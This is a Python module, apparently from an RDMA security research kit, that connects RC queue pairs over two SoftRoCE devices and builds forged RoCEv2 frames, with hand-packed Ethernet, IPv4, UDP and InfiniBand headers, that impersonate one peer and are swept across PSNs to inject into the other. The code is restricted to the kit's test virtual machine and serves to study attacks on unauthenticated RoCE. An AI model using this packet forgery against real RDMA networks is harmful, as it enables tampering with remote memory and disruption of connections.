"""Plain RC QPs over two SoftRoCE devices, and frames that an attacker on their veth pair forges.

The attacker sends from the device of the end whose packets it imitates. It knows addresses, QPNs,
rkeys and virtual addresses, as every observer does.
"""

from __future__ import annotations

import contextlib
import os
import struct
import time
from collections.abc import Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass
from typing import Any

from pyverbs.addr import GID, AHAttr, GlobalRoute
from pyverbs.cq import CQ
from pyverbs.device import Context
from pyverbs.mr import MR
from pyverbs.pd import PD
from pyverbs.pyverbs_error import PyverbsRDMAError
from pyverbs.qp import QP, QPAttr, QPCap, QPInitAttr
from pyverbs.wr import SGE, SendWR

from srdma.demo import rxe
from srdma_attack.against_plain.cable import mac_of
from srdma_attack.against_plain.constants import e
from srdma_attack.against_plain.machine import is_inside
from srdma_attack.attack import KitError
from srdma_attack.sweep import Sweep

NAME, NETWORK = "attack", "10.79.0"
SIZE = 4096
DEPTH = 16
WAIT = 60.0  # seconds
PORT = 4791
RIGHTS = e.IBV_ACCESS_LOCAL_WRITE | e.IBV_ACCESS_REMOTE_WRITE | e.IBV_ACCESS_REMOTE_READ
NOBODY = 0xABCDEF  # QPN without a QP
PSNS = 1 << 24
GIDS = 8  # that a device may have before that of IPv4, and this one
MAPPED = "0000:0000:0000:0000:0000:ffff:"


class Host:
    """A device with a PD and a region of zeros."""

    def __init__(self, end: rxe.End, undo: contextlib.ExitStack) -> None:
        self.end = end
        self._undo = undo
        self._context = self._kept(Context(name=end.device))
        self.pd = self._kept(PD(self._context))
        self.region = self.register(RIGHTS)
        self.mac = bytes.fromhex(mac_of(end.netdev).replace(":", ""))

    def _kept(self, thing: Any) -> Any:
        self._undo.callback(thing.close)
        return thing

    def register(self, rights: int) -> Any:
        return self._kept(MR(self.pd, SIZE, rights))

    def gid(self) -> tuple[int, str]:
        """Index and text of the GID that is the IPv4 address."""
        deadline = time.monotonic() + WAIT
        while time.monotonic() < deadline:  # the kernel adds it some time after the device
            for index in range(GIDS):
                with contextlib.suppress(PyverbsRDMAError):  # there is none with this index
                    text = str(self._context.query_gid(1, index))
                    if text.startswith(MAPPED):
                        return index, text
            time.sleep(0.01)
        raise KitError(f"{self.end.device} has no GID of IPv4")

    def endpoint(self) -> Endpoint:
        return Endpoint(self, self._kept(CQ(self._context, 4 * DEPTH)), self._kept)


@dataclass(frozen=True)
class Name:
    """The values that a QP must know of its peer."""

    gid: str
    qpn: int
    psn: int  # the first one


class Endpoint:
    """An RC QP. Its first PSN is random."""

    def __init__(self, host: Host, cq: Any, kept: Any) -> None:
        self.host, self._cq = host, cq
        cap = QPCap(max_send_wr=DEPTH, max_recv_wr=DEPTH)
        init = QPInitAttr(qp_type=e.IBV_QPT_RC, scq=cq, rcq=cq, cap=cap, sq_sig_all=True)
        self._qp = kept(QP(host.pd, init))
        self.psn = int.from_bytes(os.urandom(3), "big")

    @property
    def qpn(self) -> int:
        return int(self._qp.qp_num)

    @property
    def name(self) -> Name:
        return Name(self.host.gid()[1], self.qpn, self.psn)

    def connect(self, peer: Name) -> None:
        index, _ = self.host.gid()
        attr = QPAttr(port_num=1)
        attr.qp_access_flags = RIGHTS
        attr.path_mtu = e.IBV_MTU_1024
        attr.dest_qp_num = peer.qpn
        attr.rq_psn, attr.sq_psn = peer.psn, self.psn
        attr.max_rd_atomic = attr.max_dest_rd_atomic = 1
        attr.min_rnr_timer, attr.rnr_retry = 12, 7
        attr.timeout, attr.retry_cnt = 18, 7  # 1 s
        route = GlobalRoute(dgid=GID(peer.gid), sgid_index=index, hop_limit=64)
        attr.ah_attr = AHAttr(gr=route, is_global=1, port_num=1)
        self._qp.to_rts(attr)

    @property
    def alive(self) -> bool:
        attr, _ = self._qp.query(e.IBV_QP_STATE)
        return bool(attr.qp_state == e.IBV_QPS_RTS)

    def post(self, opcode: int, rkey: int, address: int, length: int, own: int = 0) -> None:
        """Posts an RDMA WRITE or READ between the host's region, from the offset `own` on, and the
        peer's memory."""
        region = self.host.region
        wr = SendWR(opcode=opcode, num_sge=1, sg=[SGE(region.buf + own, length, region.lkey)])
        wr.set_wr_rdma(rkey, address)
        self._qp.post_send(wr)

    def completion(self, seconds: float = WAIT) -> int | None:
        """The status of the next completion; None: there was none in that time."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            n, found = self._cq.poll(1)
            if n:
                return int(found[0].status)
            time.sleep(0.005)
        return None

    def write(self, target: Any, length: int = 8) -> bool:
        """Writes into the region; True if that succeeded."""
        self.post(e.IBV_WR_RDMA_WRITE, target.rkey, target.buf, length)
        return self.completion() == int(e.IBV_WC_SUCCESS)


class Stage:
    """Two hosts, and their ends of the veth pair."""

    def __init__(self, ends: list[rxe.End], undo: contextlib.ExitStack) -> None:
        self.client, self.server = (Host(end, undo) for end in ends)

    def pair(self) -> tuple[Endpoint, Endpoint]:
        """Two connected QPs."""
        client, server = self.client.endpoint(), self.server.endpoint()
        client.connect(server.name)
        server.connect(client.name)
        return client, server

    def forger(self, victim: Endpoint, opcode: int, body: bytes) -> Sweep:
        """Sends this packet, in the name of the other host, under many PSNs."""
        other = self.client if victim.host is self.server else self.server
        return Sweep(["veth", other.end.netdev], frame(other, victim, opcode, body))


@contextlib.contextmanager
def stage(devices: AbstractContextManager[list[rxe.End]] | None = None) -> Iterator[Stage]:
    """devices: two; None: on the ends of one veth pair. Raises KitError outside of a virtual
    machine of the kit."""
    if not is_inside():
        raise KitError("plain RoCE is attacked in a virtual machine of tests/rxe/vm.py only")
    with devices or rxe.pair(NAME, NETWORK) as ends, contextlib.ExitStack() as undo:
        yield Stage(ends, undo)


# Frames ------------------------------------------------------------------------------------


def reth(address: int, rkey: int, length: int) -> bytes:
    return struct.pack(">QII", address, rkey, length)


def aeth(syndrome: int) -> bytes:
    return struct.pack(">I", syndrome << 24)


def frame(sender: Host, victim: Endpoint, opcode: int, body: bytes) -> bytes:
    """A frame with PSN 0 and room for the ICRC."""
    packet = struct.pack(">BBHII", opcode, 0, 0xFFFF, victim.qpn, 0) + body + bytes(4)
    udp = struct.pack(">HHHH", PORT, PORT, 8 + len(packet), 0)
    ip = struct.pack(">BBHHHBB", 0x45, 0, 20 + len(udp) + len(packet), 0, 0x4000, 64, 17)
    addresses = b"".join(_packed(host.end.address) for host in (sender, victim.host))
    ip += _checksum(ip + bytes(2) + addresses).to_bytes(2, "big") + addresses
    return victim.host.mac + sender.mac + b"\x08\x00" + ip + udp + packet


def _packed(address: str) -> bytes:
    return bytes(map(int, address.split(".")))


def _checksum(header: bytes) -> int:
    total: int = sum(struct.unpack(f">{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
